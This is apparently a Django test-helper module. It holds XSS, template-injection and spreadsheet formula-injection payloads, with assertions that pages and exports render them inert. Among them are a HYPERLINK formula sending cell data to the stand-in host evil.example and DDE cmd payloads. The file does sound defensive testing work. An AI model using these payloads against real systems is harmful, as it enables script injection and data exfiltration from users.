"""Hostile input used across the suite, and the checks that a page shows it only as text."""

import re
from io import BytesIO

from django.utils.html import escape

XSS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "textarea": "</textarea><svg onload=alert(1)>",
    # Template syntax shown as typed, never run; a script URL where a link could be made.
    "template": "{{7*7}} {% debug %} javascript:alert(1)",
    # Right-to-left override, zero-width space inside a tag, single quotes out of a value.
    "unicode": "\u202e' onfocus='alert(1)' x='<scr\u200bipt>\u202c",
}

# What only an unescaped payload can put in a page.
DANGEROUS = (
    "<script>alert(1)",
    "<img src=x onerror",
    "<svg onload",
    "<scr\u200bipt>",
    "' onfocus='alert(1)'",
    'href="javascript:',
    "href='javascript:",
    'src="javascript:',
    'action="javascript:',
)

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_of(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def without_structured_data(html):
    """The page without its JSON-LD blocks (checked on their own: they may hold quotes)."""
    parts = re.split(r'<script type="application/ld\+json">.*?</script>', html, flags=re.S)
    return "".join(parts)


def assert_inert(html, payload, *, shown=False, where=""):
    """`payload` appears only escaped; with `shown`, it is there, as text."""
    html = without_structured_data(html)
    for marker in DANGEROUS:
        assert marker not in html, f"{where}: unescaped {marker!r}"
    if "{%" in payload or "{{" in payload:
        # Shown as typed, never run as a template.
        assert "sql_queries" not in html and "<pre>{" not in html, where
    if shown:
        assert escape(payload) in html, f"{where}: the value is not shown (escaped)"


def workbook_cells(content):
    from openpyxl import load_workbook

    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formulas(cells, expected_texts=()):
    """No cell is a formula: text that looks like one is a string cell, holding exactly what
    was typed (no apostrophe shown before it); each of `expected_texts` is there as typed."""
    values = []
    for cell in cells:
        assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)
            values.append(cell.value)
    for text in expected_texts:
        assert any(text == value or text in value for value in values), f"{text!r} is missing"
        assert not any(value.startswith("'" + text[:10]) for value in values), (
            f"{text!r} is shown after an apostrophe"
        )


def assert_csv_has_no_formulas(text, expected_texts=()):
    import csv
    from io import StringIO

    values = [value for row in csv.reader(StringIO(text.lstrip("\ufeff"))) for value in row]
    for value in values:
        assert not value.startswith(FORMULA_STARTS), value
    for expected in expected_texts:
        assert any(expected in value for value in values), f"{expected!r} is missing"
